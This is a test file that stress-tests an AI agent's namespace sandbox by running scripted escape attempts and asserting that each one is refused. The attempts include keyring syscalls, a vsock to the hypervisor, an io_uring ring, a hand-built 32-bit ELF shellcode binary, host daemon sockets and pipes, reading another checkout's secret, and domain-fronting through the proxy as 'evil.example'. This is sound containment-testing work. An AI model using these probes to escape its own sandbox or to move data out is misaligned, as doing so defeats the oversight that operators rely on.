import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { noOwnMachine } from '../../../own-machine.ts';
import { createScene, type Run, type Scene } from '../../e2e-fixture.ts';
import { attackBy, leftBy, openScratch } from '../attack-fixture.ts';

// Ways that neither a user nor a namespace closes: each attack succeeded before programs in the agent's sandbox were
// sealed.

const WORD = 'word-of-a-daemon';
/** Resources that a runner may have inherited and stored: an open file, and a key in its session keyring. */
const INHERITS = [
  ...['bash', '-c', `exec 20< <(echo open-file-of-the-runner); exec "$@"`, 'bash'],
  ...[
    'perl',
    '-e',
    `my ($type, $name, $word) = ("user", "ralph-test", "${WORD}"); syscall(250, 1, 0); syscall(248, $type, $name, $word, length $word, -3); exec @ARGV`,
  ],
];
/** A checkout of another repository on the machine of a runner that root runs. */
const OTHER_CHECKOUT = '/etc/runner/_work/other/other';
/** Listens at each path and sends a word to every client, also after one that hangs up, as the action's probe does. */
const DAEMON = `
  const { createServer } = require('node:net');
  const { chmodSync } = require('node:fs');
  for (const path of process.argv.slice(1))
    createServer((socket) => socket.on('error', () => undefined).end('${WORD}')).listen(path, () => { chmodSync(path, 0o777); console.log(path); });`;

/** Makes a system call of a 64-bit Intel processor and reports the result. */
const call = (name: string, ...words: readonly (string | number)[]): string =>
  `perl -e 'my @words = map { /^-?\\d+$/ ? $_ + 0 : $_ } @ARGV; my $got = syscall(shift @words, @words); print $got < 0 ? "error ".($!+0) : "taken"' ${words.map((word) => `'${String(word)}'`).join(' ')} > "$scratch/${name}"`;

/** A program that opens a socket to the hypervisor by a call of 32 bits, and fails if it is refused. */
const OF_32_BITS = `perl -e 'my $code = pack "H*", "b867010000bb28000000b90100000031d2cd8089c7c1ef1fb83c0000000f05";
  print pack("a7x9S2LQ3LS6L2Q6", "\\x7fELF\\2\\1\\1", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0, 1, 5, 0, 0x400000, 0x400000, (120 + length $code) x 2, 4096), $code' > "$HOME/of-32-bits"
  chmod +x "$HOME/of-32-bits"; "$HOME/of-32-bits" && echo taken > "$scratch/of-32-bits"`;

const ask = (name: string, path: string): string =>
  `perl -MIO::Socket::UNIX -e 'my $to = IO::Socket::UNIX->new(Peer => $ARGV[0]) or die $!; print <$to>' ${path} > "$scratch/${name}" 2>/dev/null || true`;

/** Connects through the proxy to an allowed host, and requests a host's certificate there; null: without TLS. */
const FRONT = (allowed: string, named: string | null): string => `
  ${process.execPath} -e '
    const request = require("node:http").request({ host: "127.0.0.1", port: new URL(process.env.HTTPS_PROXY).port, method: "CONNECT", path: "${allowed}:443" }).end();
    request.on("connect", (answer, socket) => {
      const tls = ${named === null ? 'socket.end("evil")' : `require("node:tls").connect({ socket, servername: "${named}" })`};
      tls.on("error", () => process.exit()).on("close", () => process.exit());
      setTimeout(() => process.exit(), 1000);
    });'`;

describe.skipIf(noOwnMachine !== null || process.arch !== 'x64')('past users and namespaces', () => {
  let scene: Scene;
  let run: Run;
  const throughProxy: string[] = [];
  beforeAll(async () => {
    scene = await createScene({ level: 'namespace', through: INHERITS });
    scene.openIssue('Count');
    const company = createServer().on('connect', (request, socket) => {
      socket.write('HTTP/1.1 200 OK\r\n\r\n');
      socket
        .on('error', () => undefined)
        .on('data', (chunk: Buffer) => {
          throughProxy.push(`${request.url ?? ''} ${chunk.toString('latin1')}`);
          socket.destroy();
        });
    });
    company.listen(0, '127.0.0.1');
    await once(company, 'listening');
    const [first = '', ...around] = scene.own?.around ?? [];
    const daemon = spawn(first, [...around, process.execPath, '-e', DAEMON, '/etc/ralph-daemon.sock'], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    await once(daemon.stdout, 'data');
    // The machine's own may have any mode, so that only the copy that the sandbox gets can be used.
    scene.own?.run('sh', '-c', 'mknod -m 644 /run/null c 1 3; mount --bind /run/null /dev/null');
    scene.own?.run('mkfifo', '-m', '666', '/etc/ralph-daemon.pipe');
    const keep = `mkdir -p ${OTHER_CHECKOUT}; echo ${WORD} > ${OTHER_CHECKOUT}/secret; chmod -R a+rX /etc/runner`;
    scene.own?.run('sh', '-c', keep);
    const script = [
      'cat <&20 > "$scratch/open-file" 2>/dev/null',
      'ls -l /proc/self/fd | grep -o "[0-9]* -> .*" > "$scratch/descriptors"',
      'cat /proc/keys > "$scratch/keys"',
      call('add_key', 248, 'user', 'mine', 'x', 1, -2),
      call('request_key', 249, 'user', 'ralph-test', 0, 0),
      call('keyctl', 250, 10, -3, 'user', 'ralph-test', 0),
      call('vsock', 41, 40, 1, 0),
      call('io_uring', 425, 1, 0),
      OF_32_BITS,
      ask('daemon', '/etc/ralph-daemon.sock'),
      `cat ${OTHER_CHECKOUT}/secret > "$scratch/other-checkout" 2>/dev/null`,
      'timeout 1 sh -c "echo x 1<> /etc/ralph-daemon.pipe" 2>/dev/null && echo written > "$scratch/pipe"',
      FRONT('api.example.com', 'evil.example'),
      FRONT('api.example.com', ''),
      FRONT('api.example.com', null),
      FRONT('api.example.com', 'api.example.com'),
      'true',
    ].join('\n');
    const proxy = `http://127.0.0.1:${String((company.address() as AddressInfo).port)}`;
    await using scratch = openScratch(scene);
    const ended = await scene.run({
      inputs: {
        'max-iterations': '1',
        'agent-env': 'RALPH_SCRIPT\nRALPH_PAUSE_MS\nRALPH_AIMS',
        'allowed-hosts': 'api.example.com',
      },
      env: {
        ...{ HTTPS_PROXY: proxy, https_proxy: proxy, NO_PROXY: '127.0.0.1,localhost', RALPH_AIMS: '/dev/null' },
        RUNNER_WORKSPACE: '/etc/runner/_work/sample',
      },
      agent: [attackBy(script)],
    });
    run = scratch.of(ended);
    daemon.kill();
    company.close();
  });
  afterAll(() => scene[Symbol.asyncDispose]());

  test.each([
    ['reads a file that the runner had open', 'open-file', ''],
    ['adds a key', 'add_key', 'error 1'],
    ['asks for a key of the runner', 'request_key', 'error 1'],
    ['looks for a key of the runner', 'keyctl', 'error 1'],
    ['opens a socket to the hypervisor', 'vsock', 'error 97'],
    ['opens a ring, which makes sockets unseen', 'io_uring', 'error 38'],
    ['opens a socket to the hypervisor by a call of 32 bits', 'of-32-bits', ''],
    ['asks a daemon by its socket in a folder that is shown', 'daemon', ''],
    ["reads another checkout of root's runner", 'other-checkout', ''],
  ])('the agent %s: refused', (_, name, expected) => {
    expect(leftBy(run, name) ?? '', run.main.log).toBe(expected);
  });

  test('the agent lists its descriptors: only its three', () => {
    const open = leftBy(run, 'descriptors')?.trim().split('\n') ?? [];
    // The search itself opens files, and the agent's Node may read its certificates at the same time.
    const own = /^[012] -> |\/proc\/\d+\/fd$|\.(?:crt|pem)$/;
    expect(open.length).toBeGreaterThanOrEqual(3);
    expect(open.filter((line) => !own.test(line))).toEqual([]);
  });

  test('the agent lists its keys: none of the runner', () => {
    expect(leftBy(run, 'keys')).not.toContain('ralph-test');
  });

  test('the agent writes into a pipe of a daemon: refused', () => {
    expect(leftBy(run, 'pipe')).toBeNull();
  });

  test.each([
    ['names another host', 'as evil.example', (said: string) => said.includes('evil.example')],
    ['names no host', 'without a server name', (said: string) => said.startsWith('\x16') && !said.includes('example')],
    ['speaks no TLS', 'without TLS', (said: string) => !said.startsWith('\x16')],
  ])('the agent %s on a connection to an allowed one: refused, counted, named', (_, what, isIt) => {
    const target = 'api.example.com:443';
    const heard = throughProxy.flatMap((said) => (said.startsWith(target) ? [said.slice(target.length + 1)] : []));
    expect(heard.filter(isIt)).toEqual([]);
    expect(heard.filter((said) => said.includes('api.example.com'))).toHaveLength(1);
    expect(run.summary).toContain(`\`${target} ${what}\` (1×)`);
  });

  test('and the isolation is the measured one', () => {
    expect(run.summary).toContain('Isolation: namespace — own user, processes, files and network');
    expect(run.main.log).not.toContain('it can ');
  });
});
